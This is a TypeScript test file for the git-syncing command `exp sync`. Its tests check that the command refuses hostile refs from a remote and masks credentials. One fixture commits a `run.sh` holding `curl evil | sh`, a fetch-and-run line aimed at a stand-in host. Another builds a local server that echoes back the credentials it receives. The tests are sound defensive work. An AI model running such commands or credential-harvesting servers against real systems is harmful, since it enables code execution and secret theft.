import t from 'tap'
import fs from 'node:fs'
import http from 'node:http'
import path from 'node:path'
import type {AddressInfo} from 'node:net'
import {makeRepo, git, tempDir} from '../helpers/repo.js'
import {exp} from '../helpers/cli.js'

// Found by an attack sweep, a hostile remote against `exp sync`.

interface SyncJson {
  fetched: {ref: string}[]
  rejected: {ref: string; kind: string; reason: string}[]
}

/** `exp sync --json`: its result, or the data of its error (a sync with refusals exits non-zero) */
const syncJson = async (cwd: string): Promise<{code: number; json: SyncJson}> => {
  const r = await exp(['sync', '--json'], {cwd})
  const out = JSON.parse(r.stdout) as SyncJson | {error: {data: SyncJson}}
  return {code: r.code, json: 'error' in out ? out.error.data : out}
}

t.test('a remote\'s bare refs/research/private or refs/research/lanes is refused by name, and private appends go on', async t => {
  const root = tempDir(t)
  const hub = path.join(root, 'hub.git')
  await git(root, 'init', '-q', '--bare', hub)
  const other = await makeRepo(t)
  await git(other, 'push', '-q', hub, 'HEAD:refs/research/private', 'HEAD:refs/research/lanes', 'HEAD:refs/research/odd/x')
  const repo = await makeRepo(t)
  t.equal((await exp(['init'], {cwd: repo})).code, 0)
  await git(repo, 'remote', 'add', 'origin', hub)
  const {json: out} = await syncJson(repo)
  // (the private one is not even listed: sync never carries refs/research/private)
  t.same(out.rejected.map(x => x.ref).sort(), ['refs/research/lanes', 'refs/research/odd/x'])
  t.ok(out.rejected.every(x => x.kind === 'refused' && /not a ref exp makes/.test(x.reason)))
  t.notOk(fs.existsSync(path.join(repo, '.git', 'refs', 'research', 'private')), 'nothing where the private lanes go')
  t.notOk(fs.existsSync(path.join(repo, '.git', 'refs', 'research', 'lanes')) && fs.statSync(path.join(repo, '.git', 'refs', 'research', 'lanes')).isFile())
  const priv = await exp(['append', 'note', '-', '--lane', 'me', '--private'], {cwd: repo, input: '{"text":"held-out"}'})
  t.equal(priv.code, 0, priv.stderr)
  const pub = await exp(['append', 'note', '-', '--lane', 'me'], {cwd: repo, input: '{"text":"public"}'})
  t.equal(pub.code, 0, pub.stderr)
})

t.test('sync does not move a branch checked out in a work tree (git fetch refuses it too)', async t => {
  const root = tempDir(t)
  const hub = path.join(root, 'hub.git')
  await git(root, 'init', '-q', '--bare', hub)
  const repo = await makeRepo(t)
  t.equal((await exp(['init'], {cwd: repo})).code, 0)
  await git(repo, 'remote', 'add', 'origin', hub)
  await git(repo, 'branch', 'exp/attempt/at-000000000000000000000001')
  const wt = path.join(root, 'wt')
  await git(repo, 'worktree', 'add', '-q', wt, 'exp/attempt/at-000000000000000000000001')
  t.equal((await exp(['sync'], {cwd: repo})).code, 0)
  // the remote moves that branch on
  const other = path.join(root, 'other')
  await git(root, 'clone', '-q', hub, other)
  await git(other, 'checkout', '-q', 'exp/attempt/at-000000000000000000000001')
  fs.writeFileSync(path.join(other, 'run.sh'), 'curl evil | sh\n')
  await git(other, 'add', 'run.sh')
  await git(other, 'commit', '-qm', 'theirs')
  await git(other, 'push', '-q', 'origin', 'exp/attempt/at-000000000000000000000001')
  const before = (await git(repo, 'rev-parse', 'exp/attempt/at-000000000000000000000001')).trim()
  const r = await syncJson(repo)
  const out = r.json
  t.match(out.rejected, [{ref: 'refs/heads/exp/attempt/at-000000000000000000000001', kind: 'refused', reason: /checked out in a work tree/}])
  t.not(r.code, 0, 'a refusal is not a success')
  t.equal((await git(repo, 'rev-parse', 'exp/attempt/at-000000000000000000000001')).trim(), before, 'the branch did not move')
  t.equal((await git(wt, 'status', '--short')).trim(), '', 'the work tree is as it was')
})

t.test('what an http remote says back is masked of the credentials sent to it', async t => {
  // a hostile server: its first pkt-line is the Basic credentials it received
  const server = http.createServer((q, s) => {
    const a = q.headers.authorization ? Buffer.from(q.headers.authorization.split(' ')[1]!, 'base64').toString() : ''
    const line = `echo ${a}\n`
    s.writeHead(200, {'content-type': 'application/x-git-upload-pack-advertisement'})
    s.end(`${(line.length + 4).toString(16).padStart(4, '0')}${line}0000`)
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => server.close())
  const port = (server.address() as AddressInfo).port
  const repo = await makeRepo(t)
  const r1 = await exp(['sync', `http://user:s3cr3tTOKEN@127.0.0.1:${port}/r.git`, '--json'], {cwd: repo})
  t.not(r1.code, 0)
  t.notMatch(r1.stdout + r1.stderr, /s3cr3tTOKEN/, 'the URL\'s token')
  await git(repo, 'config', 'http.extraHeader', `Authorization: Basic ${Buffer.from('ci:HEADERSECRET').toString('base64')}`)
  const r2 = await exp(['sync', `http://127.0.0.1:${port}/r.git`], {cwd: repo})
  t.not(r2.code, 0)
  t.notMatch(r2.stdout + r2.stderr, /HEADERSECRET/, 'the header\'s secret')
  t.match(r2.stderr, /\[redacted\]/)
})
